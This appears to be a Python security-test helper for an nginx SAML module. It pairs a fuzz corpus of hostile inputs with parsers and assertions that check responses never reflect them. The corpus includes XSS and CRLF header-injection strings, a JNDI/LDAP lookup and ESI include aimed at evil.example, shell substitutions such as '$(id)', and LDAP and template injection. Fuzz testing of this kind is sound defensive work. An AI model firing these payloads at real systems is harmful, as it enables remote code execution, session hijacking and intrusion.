"""Text that wants to be more than text, and parsers of others that tell whether it has become it."""

import json
import re
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import lxml.html

from harness.browser import Page

#: What harmless text looks like in the same places.
HARMLESS = ["harmless", "Jane-Doe", "a/b?c=d"]

CORPUS = [
    # Lines and headers.
    "a\r\nX-Admin: 1",
    "a\nSet-Cookie: saml_session=x",
    "a\r\n\r\n<script>alert(1)</script>",
    "a\rb",
    "a\tb",
    "%0d%0aX-Admin:%201",
    "%0D%0A%0D%0A<script>",
    "\u560a\u560dX-Admin: 1",
    "a\x00b",
    "a\x0bb\x0cc",
    "a\x85b\u2028c\u2029d",
    "\x1b[2J\x1b]0;x\x07",
    # Pages.
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "`onclick=alert(1)`",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title></style></textarea></template><script>alert(1)</script>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Templates, includes, shells.
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    '<!--#include virtual="/saml/logout" --><!--#exec cmd="id"-->',
    "<esi:include src=http://evil.example/>",
    "$saml_name_id $request $host",
    "$(id) `id` ;id |id &&id",
    "%n%s%x%p",
    # JSON, cookies, separators.
    '","admin":true,"x":"',
    '\\","admin":true,"x":"',
    "\\u0022,\\u0022admin\\u0022:true",
    "\\ud800\\udc00\\ud800",
    "a; Path=/; Domain=evil.example",
    "a;b,c=d&e",
    "a\\;b\\",
    # XML and LDAP.
    "</saml:NameID><saml:NameID>admin",
    '"/><x y="',
    "&amp;&amp;&#10;",
    "*)(uid=*))(|(uid=*",
    # Letters that hide.
    "\u202egnp.exe\u202c",
    "\u2066a\u2069\u200bb\u200dc\ufeffd",
    "admin\N{SYMBOL FOR NULL}",
    "a" + "\u0301" * 200,
    "\U000e0041\U000e0042",
    # Octets that are none.
    "%c0%ae%c0%af%e0%80%af",
    "%ff%fe%80",
    # A line of a log that never was.
    "x\n2026/01/01 00:00:00 [alert] 1#1: *1 saml: forged, client: 10.0.0.1",
    'x", client: 10.0.0.1, server: forged, request: "GET / HTTP/1.1',
    # Much.
    "x" * 3000,
    '"' * 1500,
    "<" * 1500,
]


def in_xml(text: str) -> bool:
    """Can XML 1.0 say it?"""
    return re.fullmatch(r"[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]*", text) is not None


class Tags(HTMLParser):
    """What a page is made of: tags with the names of their attributes, and what scripts and styles say."""

    def __init__(self, page: str):
        super().__init__()
        self.found: set[tuple] = set()
        self.inside = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found |= {("tag", tag), *(("attribute", tag, name) for name, _ in attrs)}
        self.found |= {("scheme", name, scheme(value)) for name, value in attrs if name in ("href", "src", "action")}  # fmt: skip
        self.inside = tag if tag in ("script", "style") else None

    def handle_endtag(self, tag):
        self.inside = None

    def handle_data(self, data):
        if self.inside:
            self.found.add((self.inside, data))

    def handle_comment(self, data):
        self.found.add(("comment", data))

    def handle_decl(self, decl):
        self.found.add(("declaration", decl))


def scheme(url: str | None) -> str:
    """As browsers find it."""
    url = re.sub(r"[\x00-\x20]", "", url or "")
    return found[0].lower() if (found := re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", url)) else ""


def parts(page: str) -> set[tuple]:
    """By two parsers."""
    document = lxml.html.document_fromstring(page)
    elements = [element for element in document.iter() if isinstance(element.tag, str)]
    by_lxml = {("lxml", element.tag, name) for element in elements for name in ("", *element.attrib)}
    return Tags(page).found | by_lxml


def read_json(text: str):
    """A name that comes twice would be another one to somebody else."""

    def once(pairs):
        assert len(dict(pairs)) == len(pairs), pairs
        return dict(pairs)

    return json.loads(text, object_pairs_hook=once)


RECORD = re.compile(r"\d{4}/\d\d/\d\d \d\d:\d\d:\d\d \[[a-z]+\] \d+#\d+: ")


def forged_lines(log: str) -> list[str]:
    """Lines of error.log that no record begins, and records of the module with letters that do not show. What
    nginx says of the request behind that is nginx's own."""
    records = log.split("\n")[:-1]
    own = [(line, line.partition(" saml: ")[2].partition(", client: ")[0]) for line in records]
    return [line for line, said in own if not RECORD.match(line) or not said.isprintable()] + [
        line for line in records if line.startswith("2026/01/01 00:00:00")
    ]


ALLOWED = {
    "server", "date", "content-type", "content-length", "connection", "transfer-encoding", "location",
    "set-cookie", "cache-control", "content-security-policy", "referrer-policy", "vary", "allow",
    "x-content-type-options", "x-frame-options", "www-authenticate", "etag", "retry-after", "x-echo",
    "permissions-policy", "cross-origin-resource-policy", "access-control-allow-origin",
    "pragma", "content-disposition", "x-robots-tag", "cross-origin-opener-policy",
}  # fmt: skip
COOKIE = re.compile(
    r"saml_session(_[a-z0-9_]+)*=[A-Za-z0-9_.-]*"
    r"(; (Path=/|HttpOnly|Secure|SameSite=(Lax|None|Strict)|Max-Age=\d+))*"
)
SCHEMES = ("", "http:", "https:", "data:")
REFUSAL = {("json", name) for name in ("error", "request_id", "login_url", "missing")}


def content(page: Page) -> set[tuple]:
    """What an answer is made of, whatever it says."""
    media_type = page.headers.get("Content-Type", "")
    if media_type.startswith("application/json"):
        return {("json", name) for name in read_json(page.text)}
    return parts(page.text) if media_type.startswith("text/html") and page.text else set()


def octets(header: str) -> str:
    """The text of a header whose octets are UTF-8."""
    return header.encode("latin-1").decode()


def cc(text: str) -> list[str]:
    """Its control characters."""
    return [letter for letter in text if unicodedata.category(letter) == "Cc"]


def check(page, seen: set[tuple] | None = None) -> None:
    """An answer of the module is what it is with harmless text: `seen` are the parts of such pages."""
    header_names = {name.lower() for name in page.headers}
    assert header_names <= ALLOWED, header_names - ALLOWED
    for value in page.headers.values():
        assert not cc(octets(value)), value
    for cookie in page.set_cookie:
        assert COOKIE.fullmatch(cookie), cookie
    if location := page.headers.get("Location"):
        home = urlsplit(page.url).netloc
        assert re.fullmatch(r"[!-~]+", location) and "\\" not in location
        assert urlsplit(location).netloc in (home, "idp.example.org"), location
    found = content(page)
    assert seen is None or found <= seen | REFUSAL, found - seen
    assert not [part for part in found if part[0] == "scheme" and part[2] not in SCHEMES]
